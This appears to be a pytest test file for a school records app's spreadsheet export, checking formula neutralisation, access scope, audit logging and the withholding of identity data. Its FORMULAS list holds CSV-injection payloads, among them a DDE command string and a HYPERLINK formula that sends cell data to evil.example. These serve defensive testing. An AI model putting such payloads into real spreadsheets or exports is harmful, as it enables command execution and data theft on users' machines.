"""P21: what leaves as a file is data of one's own scope, never a formula, and never without a line in the audit log."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl
import pytest
import sqlalchemy as sa

from app.access.session import system
from app.audit.models import AuditEntry
from app.crypto.sealing import keyed_index, seal
from app.extensions import db
from app.schools.models import Student
from app.student_records.models import ConductRecord, SubjectKind, TermGrade
from app.web import exporting
from app.web.export_files import neutral
from tests.web.screens import generated_views

CONDUCT, GRADES, STUDENTS = "/student-affairs/conduct", "/student-affairs/term-grades", "/sso/students"
EXPORTED = {
    f"{STUDENTS}/export": {"manager_wc", "registrar_wc", "teacher_501"},
    f"{GRADES}/export": {"manager_wc", "registrar_wc", "only_instruction_wc", "teacher_501"},
    "/student-affairs/attendance/export": {"manager_wc", "registrar_wc", "teacher_501"},
    f"{CONDUCT}/export": {"manager_wc", "registrar_wc", "teacher_501"},
    "/sso/enrollments/export": {"manager_wc", "registrar_wc"},
    "/student-affairs/link-records/export": {"manager_wc", "registrar_wc"},
}
PEOPLE = (
    "manager_wc",
    "registrar_wc",
    "only_instruction_wc",
    "teacher_501",
    "counselor_wc",
    "personnel_wc",
    "city_admin",
    "parent_chen",
    "citizen_wu",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+886912000000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    ' "=1+1"',
    "'=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u3000＝1+1",
    "＠SUM(A1)",
)


@pytest.fixture
def plant(flask_app, world):
    """``plant(王小明="=1+1")`` gives that child's conduct record this reason."""

    def write(**reasons: str) -> None:
        with flask_app.app_context(), system("tests"):
            for name, reason in reasons.items():
                row = db.session.scalars(sa.select(ConductRecord).filter_by(student_id=world.students[name])).one()
                row.reason = reason
            db.session.commit()

    return write


@pytest.fixture
def exports_noted(flask_app):
    def entries() -> list[AuditEntry]:
        with flask_app.app_context(), system("tests"):
            return list(db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action.startswith("export."))))

    return entries


def _csv(client, address: str) -> list[list[str]]:
    answer = client.post(address, data={"format": "csv"})
    assert answer.status_code == 200, answer.text
    assert answer.data.startswith(b"\xef\xbb\xbf"), "Excel takes it for Big5"
    return list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


def _workbook(client, address: str):  # type: ignore[no-untyped-def]
    answer = client.post(address, data={"format": "xlsx"})
    assert answer.status_code == 200, answer.text
    return openpyxl.load_workbook(io.BytesIO(answer.data)).active


# ---------- cells ----------


@pytest.mark.parametrize("text", FORMULAS)
def test_p21_a_text_that_begins_like_a_formula_gets_an_apostrophe(text):
    cell = neutral(text)
    assert cell.startswith("'")
    assert not set(cell) & set("\t\r\n\0")


@pytest.mark.parametrize("text", ["王小明", "1110500", "3-2", "a=b", "A+", "林(品)妤", "", "50%"])
def test_p21_other_texts_stay_as_they_are(text):
    assert neutral(text) == text


@pytest.mark.every_database
def test_p21_no_cell_of_a_csv_file_is_a_formula(client_as, plant):
    plant(王小明="=1+1", 林品妤='"=2+2","', 李宥廷="\t@SUM(A1)\r\n=3", 張子晴="熱心,\n服務")
    lines = _csv(client_as("registrar_wc"), f"{CONDUCT}/export")
    assert lines[0] == ["學號", "學生", "日期", "獎懲類別", "次數", "事由"]
    reasons = {line[1]: line[5] for line in lines[1:]}
    assert reasons == {"王小明": "'=1+1", "林品妤": '\'"=2+2","', "李宥廷": "'@SUM(A1) =3", "張子晴": "熱心, 服務"}
    assert all(len(line) == 6 for line in lines)


def test_p21_no_cell_of_a_workbook_is_a_formula(client_as, plant):
    plant(王小明="=1+1", 林品妤="#REF!", 李宥廷="\x01＠x", 張子晴="-2+3")
    sheet = _workbook(client_as("registrar_wc"), f"{CONDUCT}/export")
    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    assert {name: row[5].value for name, row in cells.items()} == {
        "王小明": "=1+1",
        "林品妤": "#REF!",
        "李宥廷": "＠x",
        "張子晴": "-2+3",
    }
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s", "d", "n"}
    assert {row[5].data_type for row in cells.values()} == {"s"}
    assert {row[5].number_format for row in cells.values()} == {"@"}, "edited, it would become a formula"


def test_p21_numbers_and_days_stay_what_they_are(client_as):
    row = list(_workbook(client_as("registrar_wc"), f"{CONDUCT}/export").iter_rows(min_row=2))[0]
    assert isinstance(row[2].value, datetime)
    assert row[4].value == 1
    assert row[0].value == "1110503", "a student number is a text: its zeros count"
    line = _csv(client_as("registrar_wc"), f"{GRADES}/export")[1]
    assert line[2] == "115學年度第1學期"
    assert float(line[4]) == 81


def test_p21_the_answer_is_a_file_that_no_cache_keeps(client_as):
    for kind, content_type in (("csv", "text/csv"), ("xlsx", "application/vnd.openxmlformats")):
        answer = client_as("registrar_wc").post(f"{CONDUCT}/export", data={"format": kind})
        assert answer.content_type.startswith(content_type)
        assert answer.headers["Content-Disposition"].startswith("attachment; ")
        assert "%E7%8D%8E%E6%87%B2_2" in answer.headers["Content-Disposition"]
        assert answer.headers["Cache-Control"] == "no-store"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert int(answer.headers["Content-Length"]) == len(answer.data)


# ---------- whose rows ----------


@pytest.mark.every_database
def test_p21_a_file_holds_the_rows_of_the_own_scope_and_of_the_present_search(client_as):
    def names(person: str, query: str = "") -> set[str]:
        return {line[1] for line in _csv(client_as(person), f"{STUDENTS}/export{query}")[1:]}

    assert names("teacher_501") == {"王小明", "林品妤"}
    assert names("registrar_wc") == {"王小明", "林品妤", "李宥廷", "張子晴"}
    assert names("manager_zx") == {"王小華"}
    assert names("registrar_wc", "?_flt_0_full_name=小") == {"王小明"}
    assert names("registrar_wc", "?_flt_0_current_enrollment=701") == set()
    assert names("registrar_wc", "?_flt_0_identity_number_index=x&page_StudentAdmin=7&psize_StudentAdmin=10") == {
        "王小明",
        "林品妤",
        "李宥廷",
        "張子晴",
    }


def test_p21_a_file_is_in_the_order_of_the_list(client_as):
    for direction in ("asc", "desc"):
        lines = _csv(
            client_as("registrar_wc"), f"{STUDENTS}/export?_oc_StudentAdmin=student_number&_od_StudentAdmin={direction}"
        )
        numbers = [line[0] for line in lines[1:]]
        assert numbers == sorted(numbers, reverse=direction == "desc")
    hidden = f"{STUDENTS}/export?_oc_StudentAdmin=identity_number_index&_od_StudentAdmin=asc"
    assert _csv(client_as("registrar_wc"), hidden) == _csv(client_as("registrar_wc"), f"{STUDENTS}/export")


def test_p21_no_file_holds_an_identity_number_or_a_birthday(flask_app, client_as, world):
    with flask_app.app_context(), system("tests"):
        student = db.session.get(Student, world.students["王小明"])
        student.identity_number_sealed, student.identity_number_index = seal("A123456789"), keyed_index("A123456789")
        db.session.commit()
    client = client_as("registrar_wc")
    for address in EXPORTED:
        text = client.post(address, data={"format": "csv"}).text
        assert "王小明" in text
        for secret in ("A123456789", "A12****789", "2015", "104年"):
            assert secret not in text, (address, secret)


@pytest.mark.parametrize("person", PEOPLE)
def test_p21_only_who_keeps_a_list_takes_it_along(client_as, exports_noted, person):
    client = client_as(person)
    taken = set()
    for address in EXPORTED:
        answer = client.post(address, data={"format": "csv"})
        assert answer.status_code in (200, 403), (address, answer.status_code)
        listed = client.get(address.replace("/export", "/list/")).text
        assert ((address + "?" in listed) or (f'action="{address}' in listed)) == (answer.status_code == 200), address
        if answer.status_code == 200:
            taken.add(address)
    assert taken == {address for address, people in EXPORTED.items() if person in people}
    assert len(exports_noted()) == len(taken)


def test_p21_a_visitor_gets_the_way_to_an_entrance(flask_app, visitor, exports_noted):
    flask_app.config["WTF_CSRF_ENABLED"] = False
    try:
        answers = [visitor.post(address, data={"format": "csv"}) for address in EXPORTED]
    finally:
        flask_app.config["WTF_CSRF_ENABLED"] = True
    assert {answer.status_code for answer in answers} <= {302, 401, 403}
    assert exports_noted() == []


def test_p21_no_screen_has_an_export_that_was_not_declared(flask_app):
    rules = {rule.rule for rule in flask_app.url_map.iter_rules() if rule.endpoint.endswith(".export")}
    assert rules == set(EXPORTED)
    for view in generated_views(flask_app):
        assert bool(view.export_columns) == (f"{view.route_base}/export" in rules)


# ---------- how ----------


def test_p21_an_export_is_noted_once_and_a_mere_visit_exports_nothing(client_as, exports_noted, world):
    client = client_as("registrar_wc")
    assert client.get(f"{CONDUCT}/export").status_code == 405
    assert client.get(f"{CONDUCT}/export?format=csv").status_code == 405
    assert client.post(f"{CONDUCT}/export", data={"format": "csv"}, headers={"X-CSRFToken": "x"}).status_code == 400
    assert client.post(f"{CONDUCT}/export", data={"format": "exe"}).status_code == 404
    assert exports_noted() == []
    assert client.post(f"{CONDUCT}/export?_flt_1_student=nobody", data={"format": "csv"}).status_code == 200
    assert client.post(f"{CONDUCT}/export?_flt_1_student=王", data={"format": "xlsx"}).status_code == 200
    entries = exports_noted()
    assert [(entry.action, entry.username, entry.school_id) for entry in entries] == [
        ("export.conduct_record", "registrar_wc", world.schools["wenchang"])
    ] * 2
    assert [entry.detail for entry in entries] == ["0 rows, csv", "1 rows, xlsx"]


def test_p21_too_many_rows_are_refused_in_words_and_the_search_is_kept(client_as, exports_noted, monkeypatch):
    monkeypatch.setattr(exporting, "MOST_ROWS", 3)
    client = client_as("registrar_wc")
    answer = client.post(f"{STUDENTS}/export?_flt_3_full_name=xyz", data={"format": "csv"}, follow_redirects=True)
    assert answer.request.path == f"{STUDENTS}/list/"
    assert "_flt_3_full_name=xyz" in answer.request.query_string.decode()
    assert "3" in answer.text and 'class="notice is-warn' in answer.text
    assert exports_noted() == []
    assert len(_csv(client, f"{STUDENTS}/export?_flt_0_full_name=小")) == 2


@pytest.mark.every_database
def test_p21_a_file_of_many_rows_costs_no_more_statements_than_one_of_few(flask_app, client_as, world, count_statements):
    client = client_as("registrar_wc")
    _csv(client, f"{GRADES}/export")
    with count_statements() as before:
        _csv(client, f"{GRADES}/export")
    with flask_app.app_context(), system("tests"):
        for number in range(600):
            mark = TermGrade(
                student_id=world.students["王小明"],
                school_id=world.schools["wenchang"],
                term_id=world.terms[115, 1],
                subject=f"科目{number}",
                kind=SubjectKind.SUBJECT,
                grade_level=5,
                score=80,
            )
            db.session.add(mark)
        db.session.commit()
    with count_statements() as after:
        lines = _csv(client, f"{GRADES}/export")
    assert len(lines) == 1 + 24 + 600
    # session, how many rows, the rows, the note
    assert len(before) == len(after) == 4, f"{before}\n\n{after}"
